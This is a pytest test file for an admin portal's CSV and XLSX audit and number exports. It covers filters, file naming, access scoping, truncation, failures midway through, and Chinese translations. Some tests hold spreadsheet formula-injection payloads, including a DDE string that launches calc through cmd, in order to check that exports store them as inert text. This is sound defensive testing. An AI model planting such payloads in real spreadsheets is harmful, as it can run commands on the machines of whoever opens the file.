    if file_format == "xlsx":  # the same words; a formula is kept off as a string cell
        assert rows[1][1] == "=cmd|' /C calc'!A0"
        assert xlsx_sheet(b"".join(chunks))["B2"].quotePrefix
        rows[1][1] = "'" + rows[1][1]
    assert rows[1:] == [trimmed(row) for row in AUDIT_ROWS]
    today = timezone.localdate().isoformat()
    assert f'filename="audit-trail_{today}.{file_format}"' in response["Content-Disposition"]


@pytest.mark.database
def test_the_audit_export_takes_the_pages_filters(client, trail):
    page = Html(client.get(AUDIT + "?action=unlink&user=bob&per_page=10&page=1").content.decode())
    (url,) = [href for href, text in page.links if text == "Export CSV"]
    assert url == AUDIT + "export.csv?user=bob&action=unlink"

    response, chunks = download(client, url)

    assert csv_rows(b"".join(chunks))[1:] == AUDIT_ROWS[2:4]
    assert "audit-trail_" in response["Content-Disposition"]


@pytest.mark.database
def test_the_audit_export_is_named_by_its_instance_and_skill_group(client, trail):
    url = AUDIT + f"export.csv?instance={EXAMPLE_INSTANCE_ID}&skill_group={EXAMPLE_SKILL_GROUP_ID}"

    response, _ = download(client, url)

    today = timezone.localdate().isoformat()
    assert file_name(response) == (
        f"audit-trail_{EXAMPLE_INSTANCE_ID}_{EXAMPLE_SKILL_GROUP_ID}_{today}.csv"
    )


@pytest.mark.database
@pytest.mark.parametrize("file_format", FORMATS)
def test_the_audit_export_takes_the_number_filter_and_is_named_by_it(client, db, file_format):
    events = number_history()
    page = Html(client.get(AUDIT + "?number=0833-0011-0001").content.decode())
    (url,) = [href for href, text in page.links if text == EXPORT_FORMATS[file_format]]
    assert url == AUDIT + f"export.{file_format}?number={HISTORY_NUMBER}"

    response, chunks = download(client, url)
    rows = rows_of(file_format, b"".join(chunks))

    with translation.override("en"):
        times = [moment_text(events[name].created_at) for name in ("refused", "two_groups", "link")]
    assert [row[0] for row in rows[1:]] == times
    assert all(HISTORY_NUMBER in row[8].split() for row in rows[1:])
    today = timezone.localdate().isoformat()
    assert file_name(response) == f"audit-trail_{HISTORY_NUMBER}_{today}.{file_format}"


@pytest.mark.database
def test_a_scoped_user_exports_only_their_instances(client, trail, settings):
    settings.CCCADMIN_AUTH_MODE = "header"
    settings.CCCADMIN_TRUSTED_PROXIES = [f"{PROXY}/32"]
    settings.CCCADMIN_VIEWER_GROUPS = ["cc-support"]
    settings.CCCADMIN_INSTANCE_ACCESS = {"support": [EXAMPLE_INSTANCE_ID]}

    response = client.get(
        AUDIT + f"export.csv?instance={BULK_INSTANCE_ID}",
        REMOTE_ADDR=PROXY,
        headers={"X-Forwarded-User": "carol", "X-Forwarded-Groups": "cc-support,support"},
    )
    rows = csv_rows(b"".join(response.streaming_content))

    assert rows[1:] == [row for row in AUDIT_ROWS if row[6] == EXAMPLE_INSTANCE_ID]


@pytest.mark.database
@pytest.mark.parametrize("file_format", FORMATS)
def test_an_audit_export_past_its_maximum_says_so_beside_its_rows(
    client, trail, monkeypatch, file_format
):
    monkeypatch.setattr(audit_exports, "AUDIT_EXPORT_MAX_ROWS", 3)
    today = timezone.localdate().isoformat()

    response, chunks = download(client, AUDIT + f"export.{file_format}")
    body = b"".join(chunks)

    assert [row[0] for row in rows_of(file_format, body)[1:]] == [row[0] for row in AUDIT_ROWS[:3]]
    assert file_name(response) == f"audit-trail_first-3-of-5_{today}.{file_format}"
    assert response["X-Export-Truncated"] == "exported=3, total=5"
    if file_format == "xlsx":
        assert xlsx_sheet(body).auto_filter.ref == "A1:M4"
        assert xlsx_notes(body) == (
            ["Audit trail", "Notes"],
            [
                "Only the newest 3 of 5 matching events are exported. Narrow the filters to "
                "export the rest."
            ],
        )


@pytest.fixture
def trail_lost_after_two_events(trail, monkeypatch):
    """The database is lost once the export has read its first chunk, of two events."""
    monkeypatch.setattr(audit_exports, "AUDIT_ROWS_CHUNK", 2)
    event_rows = audit_exports.selectors.audit_event_rows

    def lost_midway(**arguments):
        total, entries = event_rows(**arguments)

        def read() -> Iterator[object]:
            yield from itertools.islice(entries, 2)
            raise OperationalError("server closed the connection unexpectedly")

        return total, read()

    monkeypatch.setattr(audit_exports.selectors, "audit_event_rows", lost_midway)


AUDIT_INCOMPLETE = (
    "The export is incomplete: reading the audit trail failed after 2 of 5 events. Export "
    "again to get every event."
)


@pytest.mark.database
def test_a_failure_midway_ends_the_audit_csv_saying_it_is_incomplete(
    client, trail_lost_after_two_events
):
    _, chunks = download(client, AUDIT + "export.csv")
    rows = csv_rows(b"".join(chunks))

    assert [row[0] for row in rows[1:-1]] == [row[0] for row in AUDIT_ROWS[:2]]
    assert rows[-1] == [AUDIT_INCOMPLETE]


@pytest.mark.database
def test_a_failure_midway_is_said_on_the_audit_xlsx_notes_sheet_in_the_readers_words(
    client, trail_lost_after_two_events
):
    _, chunks = download(client, AUDIT + "export.xlsx", **{"Accept-Language": "zh-CN"})
    body = b"".join(chunks)

    assert len(xlsx_rows(body)) == 1 + 2
    assert xlsx_notes(body) == (
        ["审计记录", "说明"],
        ["导出不完整：共 5 条记录，导出 2 条后读取审计记录出错。请重新导出以获取全部记录。"],
    )


@pytest.mark.database
@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("file_format", FORMATS)
def test_the_audit_export_says_every_outcome_and_error_in_either_language(
    client, db, file_format, language
):
    events = every_kind_trail()
    said = EVERY_KIND_SAID[language]
    with translation.override(language):
        times = [moment_text(events[name].created_at) for name in newest_first(events)]
    expected = [
        [
            time,
            said[name][0],
            "\n".join(
                f"{CCC_SAYS[language]} “{line}”" if isinstance(line, CccWords) else line
                for line in said[name][1:]
            ),
        ]
        for time, name in zip(times, newest_first(events), strict=True)
    ]

    _, chunks = download(
        client, AUDIT + f"export.{file_format}", **{"Accept-Language": ACCEPT_LANGUAGE[language]}
    )
    _, *rows = rows_of(file_format, b"".join(chunks))

    # A row per event, to the oldest: nothing cut the file short.
    padded = [row + [""] * (len(AUDIT_HEADERS) - len(row)) for row in rows]
    assert [[row[0], row[OUTCOME], row[DETAILS]] for row in padded] == expected


# -- a real spreadsheet ------------------------------------------------------------------------

# LibreOffice's CSV export filter: commas, double quotes, UTF-8 (76), from the first line.
TO_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1"


def test_libreoffice_reads_the_numbers_back_intact(client, hostile_text, tmp_path):
    soffice = require("soffice", "apt-get install libreoffice-calc")
    listed = listed_numbers(hostile_text, EXAMPLE_INSTANCE_ID, EXAMPLE_SKILL_GROUP_ID)
    assert any(number.startswith("0") for number in listed)
    assert any(re.fullmatch(r"1\d{10}", number) for number in listed)

    def converted(file_format: str, *infilter: str) -> list[list[str]]:
        _, chunks = download(client, NUMBERS + f"export.{file_format}")
        source = tmp_path / f"numbers.{file_format}"
        source.write_bytes(b"".join(chunks))
        out = tmp_path / file_format
        subprocess.run(  # noqa: S603 - Debian's soffice, fixed arguments
            [
                soffice,
                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                "--headless",
                "--norestore",
                *infilter,
                "--convert-to",
                TO_CSV,
                "--outdir",
                str(out),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=100,
        )
        with Path(out / "numbers.csv").open(encoding="utf-8", newline="") as read:
            return list(csv.reader(read))

    from_xlsx = converted("xlsx")
    # The CSV read as UTF-8 with the number column as text, as one must read it (Calc's
    # default, like Excel's, takes 0833… for a number).
    from_csv = converted("csv", "--infilter=CSV:44,34,76,1,1/2")

    assert from_xlsx[0] == from_csv[0] == HEADERS  # the BOM is no part of the first header
    assert [row[0] for row in from_xlsx[1:]] == listed
    assert [row[0] for row in from_csv[1:]] == listed
    example = [row for row in from_xlsx if row[0] == EXAMPLE_NUMBER]
    # Text, never evaluated: a formula would have come back as its result.
    assert example == [
        [
            EXAMPLE_NUMBER,
            "Active",
            "Inbound and outbound",
            "+1+1",
            "@SUM(1,2)",
            INJECTED,
            EXAMPLE_CONTACT_FLOW_ID,
        ]
    ]
    assert {row[3] for row in from_csv[1:]} >= {"四川", "'+1+1"}


@pytest.mark.database
@pytest.mark.parametrize("file_format", FORMATS)
def test_an_action_of_two_groups_names_both_in_its_row(client, db, file_format):
    two_groups_action()

    _, chunks = download(client, AUDIT + f"export.{file_format}?skill_group=sales@ccc-test")
    header, row = rows_of(file_format, b"".join(chunks))

    cells = dict(zip(header, row, strict=False))
    assert cells["Skill group"] == "Customer service, Sales"
    assert cells["Skill group ID"] == "skillgroup@ccc-test sales@ccc-test"
    assert cells["Numbers"] == " ".join(numbers(5))


def test_xlsx_columns_fit_their_widest_cell_a_chinese_character_counting_two():
    """A spreadsheet draws a Chinese character twice as wide; a long cell stops at a bound."""
    columns = [
        portal_exports.Column("Number", phone_numbers=True),
        portal_exports.Column("技能组"),
        portal_exports.Column("Details"),
    ]
    rows = [["05712345678", "售后服务技能组", "x" * 500], ["0571", "", ""]]
    body = b"".join(
        portal_exports.export_file(
            ["numbers"], "xlsx", title="Numbers", columns=columns, batches=iter([rows])
        ).chunks
    )

    widths = {
        letter: dimension.width for letter, dimension in xlsx_sheet(body).column_dimensions.items()
    }
    assert widths == {"A": 11 + 2, "B": 7 * 2 + 2, "C": 60}
    assert xlsx_rows(body)[1:] == [["05712345678", "售后服务技能组", "x" * 500], ["0571", "", ""]]
